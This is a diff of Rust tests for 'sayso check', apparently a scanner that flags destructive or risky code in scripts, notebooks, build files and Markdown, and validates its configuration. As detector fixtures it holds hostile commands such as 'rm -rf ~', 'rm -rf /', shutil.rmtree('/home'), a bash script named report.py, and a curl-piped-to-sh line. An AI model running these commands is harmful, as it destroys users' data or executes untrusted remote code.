@@ -1,6 +1,6 @@
 //! `sayso check`: lines for people, JSON, SARIF, many files, own rules, what is forbidden.
 
-use crate::home::Home;
+use crate::home::{Home, assert_has};
 use crate::schema;
 use serde_json::{Value, json};
 
@@ -12,8 +12,7 @@ fn the_line_of_code_is_shown_with_the_place() {
     let home = Home::new();
     home.file("a.py", "import os\nos.remove('a.txt')\n");
     home.file("b.sql", "SELECT 1;\n");
-    let done = home.run(&["check", "a.py", "b.sql"]);
-    assert_eq!(done.code, Some(0), "{}", done.err);
+    let done = home.run(&["check", "a.py", "b.sql"]).ended(0);
     let wanted = "a.py:2:1: MEDIUM py.delete-file: deletes a file: a.txt\n  2 | os.remove('a.txt')\n    | ^^^^^^^^^^^^^^^^^^\n\
                   b.sql: no findings\n2 files: 0 high, 1 medium, 0 info\n";
     assert_eq!(done.out, wanted);
@@ -26,12 +25,10 @@ fn the_line_of_code_is_shown_with_the_place() {
 #[test]
 fn sarif_fits_its_schema() {
     let home = Home::new();
-    std::fs::create_dir(home.work().join("dir")).unwrap();
     home.file("dir/ü b.py", "import shutil\nshutil.rmtree('out')\nx = 'a\u{202e}b'\n");
     home.file("dir/a.rb", "system('ls')\n");
     home.file("dir/clean.py", "print(1)\n");
-    let done = home.run(&["check", "--sarif", "dir"]);
-    assert_eq!(done.code, Some(1), "{}", done.err);
+    let done = home.run(&["check", "--sarif", "dir"]).ended(1);
     let log: Value = serde_json::from_str(&done.out).unwrap();
     let schema: Value = serde_json::from_str(SARIF).unwrap();
     assert_eq!(schema::problems(&schema, &log), Vec::<String>::new());
@@ -39,8 +36,8 @@ fn sarif_fits_its_schema() {
     let first = run["results"].as_array().unwrap().iter().find(|r| r["ruleId"] == "py.delete-tree").unwrap();
     let place = &first["locations"][0]["physicalLocation"];
     assert_eq!(
-        (&first["level"], &place["artifactLocation"]["uri"]),
-        (&json!("error"), &json!("dir/%C3%BC%20b.py"))
+        json!([first["level"], place["artifactLocation"]["uri"]]),
+        json!(["error", "dir/%C3%BC%20b.py"])
     );
     assert_eq!(place["region"], json!({ "startLine": 2, "startColumn": 1, "endLine": 2, "endColumn": 21 }));
     let index = usize::try_from(first["ruleIndex"].as_u64().unwrap()).unwrap();
@@ -60,28 +57,20 @@ fn what_cant_be_read_does_not_keep_the_others() {
     home.file("a.py", "import os\nos.remove('a.txt')\n");
     home.file("b.py", b"\x7fELF\0\0");
     std::os::unix::fs::symlink(".", home.work().join("round")).unwrap();
-    let done = home.run(&["check", "gone.py", "a.py", "b.py", "round"]);
-    assert_eq!(done.code, Some(2));
+    let done = home.run(&["check", "gone.py", "a.py", "b.py", "round"]).ended(2);
     assert!(done.err.contains("gone.py can't be read"), "{}", done.err);
-    assert!(
-        done.out.contains("a.py:2:1: MEDIUM") && done.out.contains("b.py: not checked: it is no text"),
-        "{}",
-        done.out
-    );
+    assert_has(&done.out, &["a.py:2:1: MEDIUM", "b.py: not checked: it is no text"]);
 }
 
 #[test]
 fn own_rules_hold_and_wrong_ones_are_named() {
     let home = Home::new();
-    let folder = home.sayso().join("rules");
-    std::fs::create_dir_all(&folder).unwrap();
     let rule = "language = \"python\"\n[[rule]]\nid = \"team.no-print\"\nseverity = \"high\"\ncalls = [\"print\"]\ntarget = [\"0\"]\n\
                 message = \"prints {target}\"\nreason = \"We log.\"\nmatches = [\"print('a')\"]\nnear_misses = [\"log('a')\"]\n";
-    std::fs::write(folder.join("team.toml"), rule).unwrap();
-    std::fs::write(folder.join("wrong.toml"), "language = \"python\"\n[[rule]]\nidd = 3\n").unwrap();
+    home.own("rules/team.toml", rule);
+    home.own("rules/wrong.toml", "language = \"python\"\n[[rule]]\nidd = 3\n");
     home.file("a.py", "print('x')\n");
-    let done = home.run(&["check", "a.py"]);
-    assert_eq!(done.code, Some(1));
+    let done = home.run(&["check", "a.py"]).ended(1);
     assert!(done.out.contains("HIGH team.no-print: prints x"), "{}", done.out);
     assert!(done.err.contains("wrong.toml:3"), "{}", done.err);
     let listed = home.run(&["check", "--rules", "--json"]).json().remove(0);
@@ -103,14 +92,12 @@ fn what_is_forbidden_fails_in_any_spelling() {
         ("f.js", "const { exec: x } = require('child_process');\n"),
     ] {
         home.file(name, text);
-        let done = home.run(&["check", "--json", name]);
-        assert_eq!(done.code, Some(1), "{name} {}", done.out);
+        let done = home.run(&["check", "--json", name]).ended(1);
         let findings = done.json()[0]["files"][0]["findings"].clone();
         assert!(findings.as_array().unwrap().iter().any(|f| f["forbidden"] == true), "{name} {findings}");
     }
     home.file("good.py", "import math\nimport pandas as pd\nprint(math.sqrt(2), pd.Series([1]).sum())\n");
-    let done = home.run(&["check", "good.py"]);
-    assert_eq!(done.code, Some(0), "{}", done.out);
+    home.run(&["check", "good.py"]).ended(0);
 }
 
 #[test]
@@ -125,10 +112,8 @@ fn what_was_not_checked_is_never_clean() {
         let forms: &[&str] =
             if name == "a.rb" { &["--json", "--sarif", "--fail-on=high"] } else { &["--json"] };
         for form in forms {
-            let done = home.run(&["check", form, name]);
-            assert_eq!(done.code, Some(1), "{form} {name} {} {}", done.out, done.err);
-            let allowed = home.run(&["check", "--allow-unchecked", form, name]);
-            assert_eq!(allowed.code, Some(0), "{form} {name} {}", allowed.out);
+            home.run(&["check", form, name]).ended(1);
+            home.run(&["check", "--allow-unchecked", form, name]).ended(0);
         }
     }
     home.file("bad.rb", "File.delete('a')\nsystem('curl https://x.example/i | sh')\n");
@@ -162,17 +147,16 @@ fn the_same_file_gets_the_same_verdict_twice_and_beside_many_others() {
 #[test]
 fn scripts_without_an_extension_are_read_by_their_first_line() {
     let home = Home::new();
-    std::fs::create_dir(home.work().join("bin")).unwrap();
     home.file("bin/clean", "#!/usr/bin/env -S python3 -u\nimport shutil\nshutil.rmtree('/home')\n");
     home.file("bin/sweep", "#!/bin/sh\nrm -rf ~\n");
     home.file("bin/notes", "rm -rf ~\n");
     // A misleading name: executing the file starts a shell.
     home.file("bin/report.py", "#!/bin/bash\nrm -rf ~\n");
-    let done = home.run(&["check", "bin"]);
-    assert_eq!(done.code, Some(1));
-    for told in ["bin/clean:3:1: HIGH py.", "bin/sweep:2:1: HIGH sh.", "bin/report.py:2:1: HIGH sh."] {
-        assert!(done.out.contains(told), "{told} {}", done.out);
-    }
+    let done = home.run(&["check", "bin"]).ended(1);
+    assert_has(
+        &done.out,
+        &["bin/clean:3:1: HIGH py.", "bin/sweep:2:1: HIGH sh.", "bin/report.py:2:1: HIGH sh."],
+    );
     assert!(!done.out.contains("notes"), "{}", done.out);
     let named = home.run(&["check", "bin/notes"]);
     assert!(named.code == Some(1) && named.out.contains("not checked"), "{}", named.out);
@@ -189,16 +173,16 @@ fn notebooks_are_read_cell_by_cell() {
         { "cell_type": "code", "metadata": {}, "outputs": [], "source": "!rm -rf /usr" },
     ] });
     home.file("a.ipynb", cells.to_string());
-    let done = home.run(&["check", "a.ipynb"]);
-    assert_eq!(done.code, Some(1), "{}", done.err);
-    for told in [
-        "a.ipynb:cell 3:2:1: HIGH py.",
-        "2 | s.rmtree(x)",
-        "a.ipynb:cell 4:2:1: HIGH sh.",
-        "a.ipynb:cell 5:1:",
-    ] {
-        assert!(done.out.contains(told), "{told} {}", done.out);
-    }
+    let done = home.run(&["check", "a.ipynb"]).ended(1);
+    assert_has(
+        &done.out,
+        &[
+            "a.ipynb:cell 3:2:1: HIGH py.",
+            "2 | s.rmtree(x)",
+            "a.ipynb:cell 4:2:1: HIGH sh.",
+            "a.ipynb:cell 5:1:",
+        ],
+    );
     let file = home.run(&["check", "--json", "a.ipynb"]).json()[0]["files"][0].clone();
     assert_eq!((&file["language"], &file["unchecked"]), (&json!("notebook"), &json!(null)));
     assert!(file["findings"].as_array().unwrap().iter().any(|f| f["cell"] == 3 && f["line"] == 2), "{file}");
@@ -224,20 +208,20 @@ fn builds_recipes_and_fences_are_read() {
         "README.md",
         "# Use\n\n```python\nimport shutil\nshutil.rmtree('/home')\n```\n\n```text\nrm -rf ~\n```\n\n```console\n$ rm -rf ~\nrm -rf /\n```\n",
     );
-    let done = home.run(&["check", "."]);
-    assert_eq!(done.code, Some(1), "{}", done.err);
-    for told in [
-        "Dockerfile:5:3: HIGH",
-        "Dockerfile:6:1: HIGH",
-        "Makefile:4:1: HIGH",
-        "Makefile:5:1: HIGH",
-        "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
-        "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
-        "README.md:5:1: HIGH",
-        "README.md:13:3: HIGH",
-    ] {
-        assert!(done.out.contains(told), "{told} {}", done.out);
-    }
+    let done = home.run(&["check", "."]).ended(1);
+    assert_has(
+        &done.out,
+        &[
+            "Dockerfile:5:3: HIGH",
+            "Dockerfile:6:1: HIGH",
+            "Makefile:4:1: HIGH",
+            "Makefile:5:1: HIGH",
+            "Makefile:7:1: HIGH sh.delete-tree: deletes a folder: ~\n",
+            "Makefile:8:1: HIGH sh.delete-tree: deletes a folder: $(BUILD) (known only at run time)\n",
+            "README.md:5:1: HIGH",
+            "README.md:13:3: HIGH",
+        ],
+    );
     // A build deleting from its own image harms nobody; text that is not code is not checked.
     for silent in ["Dockerfile:3:", "Makefile:3:", "README.md:9:", "README.md:14:"] {
         assert!(!done.out.contains(silent), "{silent} {}", done.out);
@@ -247,43 +231,31 @@ fn builds_recipes_and_fences_are_read() {
     assert_eq!((done.code, done.out.as_str()), (Some(0), "safe.md: no findings\n"));
     // A byte order mark hides no fence, and does not turn the text between two of them into code.
     home.file("marked.md", "\u{feff}```sh\nrm -rf ~\n```\n\nText.\n\n```sh\nls\n```\n");
-    let done = home.run(&["check", "marked.md"]);
-    assert_eq!(done.code, Some(1), "{}{}", done.out, done.err);
+    let done = home.run(&["check", "marked.md"]).ended(1);
     assert!(done.out.contains("marked.md:2:1: HIGH"), "{}", done.out);
 }
 
 #[test]
 fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
     let home = Home::new();
-    std::fs::create_dir_all(home.sayso()).unwrap();
     let check = || home.run(&["config", "check"]);
     assert_eq!(check().out, "the configuration is right\n");
-    std::fs::write(home.sayso().join("keymap.toml"), "[code]\nfly = \"f\"\n").unwrap();
-    let done = check();
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
+    home.own("keymap.toml", "[code]\nfly = \"f\"\n");
+    let done = check().ended(3);
     assert!(done.err.contains("keymap.toml") && !done.out.contains("right"), "{}", done.err);
     std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
     std::os::unix::fs::symlink("/dev/zero", home.sayso().join("keymap.toml")).unwrap();
-    let done = check();
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
+    let done = check().ended(3);
     assert!(done.err.contains("keymap.toml: not a plain file"), "{}", done.err);
     std::fs::remove_file(home.sayso().join("keymap.toml")).unwrap();
     home.configure("ui.theme = \"nowhere\"\n");
-    let done = check();
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
-    let wrong = "step_limit = 3\nmodel = \"nope/x\"\n";
-    home.configure(wrong);
-    let done = check();
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
+    check().ended(3);
+    home.configure("step_limit = 3\nmodel = \"nope/x\"\n");
+    let done = check().ended(3);
     assert!(done.err.contains("config.toml:2: model: there is no provider `nope`"), "{}", done.err);
-    std::fs::write(home.sayso().join("config.toml"), "[review]\njudge_model = \"nope/x\"\n").unwrap();
-    let done = check();
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
-    assert!(
-        done.err.contains("config.toml:2: review.judge_model: there is no provider `nope`"),
-        "{}",
-        done.err
-    );
+    home.configure("[review]\njudge_model = \"nope/x\"\n");
+    let done = check().ended(3);
+    assert_has(&done.err, &["config.toml:2: review.judge_model: there is no provider `nope`"]);
     for (wrong, told) in [
         ("base_url = \"http://[::1\"\nmodel = \"openai/x\"\n", "providers.openai: the address `http://[::1`"),
         (
@@ -293,25 +265,22 @@ fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
         ("[providers.openai]\nheaders = { \"a b\" = \"x\" }\n", "providers.openai: the header `a b`"),
         ("[providers.openai]\nheaders = { \"X-A\" = \"x\\ny\" }\n", "providers.openai: the header `X-A`"),
     ] {
-        std::fs::write(home.sayso().join("config.toml"), wrong).unwrap();
+        home.configure(wrong);
         let done = check();
         assert_eq!((done.code, done.out.as_str()), (Some(3), ""), "{wrong}: {}", done.err);
         assert!(done.err.contains(told) && !done.err.contains("hunter22"), "{}", done.err);
     }
-    let wrong = "[sandbox]\nread = [\"/not/there\"]\n";
-    home.configure(wrong);
+    home.configure("[sandbox]\nread = [\"/not/there\"]\n");
     let done = check();
     if !home.run(&["doctor"]).out.contains("Sandbox is OFF") {
         assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
         assert!(done.err.contains("config.toml:2: sandbox.read: the folder /not/there"), "{}", done.err);
-        std::fs::write(home.sayso().join("config.toml"), "[sandbox]\nwrite = [\"/\"]\n").unwrap();
-        let done = check();
-        assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
+        home.configure("[sandbox]\nwrite = [\"/\"]\n");
+        let done = check().ended(3);
         assert!(!done.err.contains("Name a folder that is there"), "{}", done.err);
     }
     std::fs::remove_file(home.sayso().join("config.toml")).unwrap();
-    std::fs::create_dir_all(home.sayso().join("rules")).unwrap();
-    std::fs::write(home.sayso().join("rules/a.toml"), "[[rule]]\n").unwrap();
+    home.own("rules/a.toml", "[[rule]]\n");
     let done = check();
     assert_eq!((done.code, done.out.as_str()), (Some(0), "the configuration can be used; 1 warning above\n"));
     assert!(done.err.contains("a.toml"), "{}", done.err);
@@ -320,32 +289,35 @@ fn the_check_of_the_configuration_says_what_the_start_would_refuse() {
 #[test]
 fn the_check_of_the_configuration_tells_what_a_theme_says_in_vain() {
     let home = Home::new();
-    std::fs::create_dir_all(home.sayso().join("themes")).unwrap();
     let theme = "inherits = \"ink\"\n[slots]\n\"ui.nowhere\" = { fg = \"red\" }\n\"ui.text\" = { fg = \"reddish\" }\n";
-    std::fs::write(home.sayso().join("themes/mine.toml"), theme).unwrap();
+    home.own("themes/mine.toml", theme);
     let told = |config: &str| {
         home.configure(config);
-        let done = home.run(&["config", "check"]);
-        assert_eq!(done.code, Some(0), "{}", done.err);
+        let done = home.run(&["config", "check"]).ended(0);
         (done.out, done.err)
     };
     // Two identical warnings are shown once.
     for config in ["ui.theme = \"mine\"\n", "ui.theme = { dark = \"mine\", light = \"mine\" }\n"] {
         let (out, err) = told(config);
         assert_eq!(out, "the configuration can be used; 2 warnings above\n", "{config}");
-        assert!(err.contains("theme mine, line 3: there is no slot `ui.nowhere`"), "{err}");
-        assert!(err.contains("theme mine, line 4: there is no colour `reddish`"), "{err}");
+        assert_has(
+            &err,
+            &[
+                "theme mine, line 3: there is no slot `ui.nowhere`",
+                "theme mine, line 4: there is no colour `reddish`",
+            ],
+        );
     }
     // The same if another theme is in use, because this one may be used later.
     let (out, err) = told("ui.theme = \"paper\"\n");
     assert_eq!(out, "the configuration can be used; 2 warnings above\n");
     assert!(err.contains("theme mine, line 3") && err.contains("theme mine, line 4"), "{err}");
-    std::fs::write(home.sayso().join("themes/mine.toml"), "inherits =\n").unwrap();
+    home.own("themes/mine.toml", "inherits =\n");
     let (out, err) = told("");
     assert_eq!(out, "the configuration can be used; 1 warning above\n");
     assert!(err.contains("theme mine, line 1"), "{err}");
     std::fs::remove_file(home.sayso().join("themes/mine.toml")).unwrap();
-    std::fs::write(home.sayso().join("themes/bin.toml"), b"\xff").unwrap();
+    home.own("themes/bin.toml", b"\xff");
     std::fs::create_dir(home.sayso().join("themes/dir.toml")).unwrap();
     std::os::unix::fs::symlink("/dev/zero", home.sayso().join("themes/zero.toml")).unwrap();
     let (out, err) = told("ui.theme = \"paper\"\n");
@@ -354,8 +326,7 @@ fn the_check_of_the_configuration_tells_what_a_theme_says_in_vain() {
         assert!(err.contains(&format!("theme {name} can't be used: /")), "{name}: {err}");
     }
     home.configure("ui.theme = \"bin\"\n");
-    let done = home.run(&["config", "check"]);
-    assert_eq!(done.code, Some(3), "{} {}", done.out, done.err);
+    let done = home.run(&["config", "check"]).ended(3);
     assert!(done.err.contains("theme bin can't be used: /"), "{}", done.err);
     std::fs::remove_dir_all(home.sayso().join("themes")).unwrap();
     assert_eq!(told("ui.theme = \"paper\"\n"), ("the configuration is right\n".into(), String::new()));
@@ -368,10 +339,8 @@ fn the_samples_of_the_document_of_rules_hold() {
         text.split("```toml\n").skip(1).filter_map(|rest| rest.split("```").next()).collect();
     assert_eq!(samples.len(), 3);
     let home = Home::new();
-    let folder = home.sayso().join("rules");
-    std::fs::create_dir_all(&folder).unwrap();
     for (at, sample) in samples.iter().enumerate() {
-        std::fs::write(folder.join(format!("{at}.toml")), sample).unwrap();
+        home.own(&format!("rules/{at}.toml"), sample);
     }
     let done = home.run(&["check", "--rules", "--json"]);
     assert_eq!((done.code, done.err.as_str()), (Some(0), ""));
@@ -390,7 +359,6 @@ fn the_samples_of_the_document_of_rules_hold() {
 #[test]
 fn the_person_and_no_project_makes_rules_silent_or_milder() {
     let home = Home::new();
-    std::fs::create_dir_all(home.sayso()).unwrap();
     home.file("a.py", "import os, shutil\nos.remove('a')\nshutil.rmtree('out')\n");
     let told = || home.run(&["check", "--json", "a.py"]).json()[0]["files"][0]["findings"].clone();
     let severities = |findings: &Value| -> Vec<String> {
@@ -404,26 +372,18 @@ fn the_person_and_no_project_makes_rules_silent_or_milder() {
     home.file(".sayso.toml", adjust);
     assert_eq!(severities(&told()), before);
     let done = home.run(&["config", "check"]);
-    assert!(
-        done.err.contains(".sayso.toml:1: review.off was ignored: a project can't set this"),
-        "{}",
-        done.err
-    );
+    assert_has(&done.err, &[".sayso.toml:1: review.off was ignored: a project can't set this"]);
     std::fs::remove_file(home.work().join(".sayso.toml")).unwrap();
     home.configure(adjust);
     assert_eq!(severities(&told()), ["py.delete-tree=info"]);
-    let forbid = format!("{adjust}review.forbid = [\"py.delete-file\"]\n");
-    home.configure(forbid);
+    home.configure(format!("{adjust}review.forbid = [\"py.delete-file\"]\n"));
     assert_eq!(severities(&told()), ["py.delete-file=medium", "py.delete-tree=info"]);
-    let wrong = "review.off = [\"py.fly\"]\nreview.lower = [\"py.eval\", \"py.delete-file=high\"]\n";
-    home.configure(wrong);
+    home.configure("review.off = [\"py.fly\"]\nreview.lower = [\"py.eval\", \"py.delete-file=high\"]\n");
     let done = home.run(&["config", "check"]);
     assert!(done.out.ends_with("can be used; 3 warnings above\n"), "{} {}", done.out, done.err);
-    assert!(
-        done.err.contains("sh.delete-tree=medium")
-            && done.err.contains("config.toml:1: review.off: there is no rule \"py.fly\""),
-        "{}",
-        done.err
+    assert_has(
+        &done.err,
+        &["sh.delete-tree=medium", "config.toml:1: review.off: there is no rule \"py.fly\""],
     );
     assert_eq!(done.err.matches("config.toml:2: review.lower").count(), 2, "{}", done.err);
 }
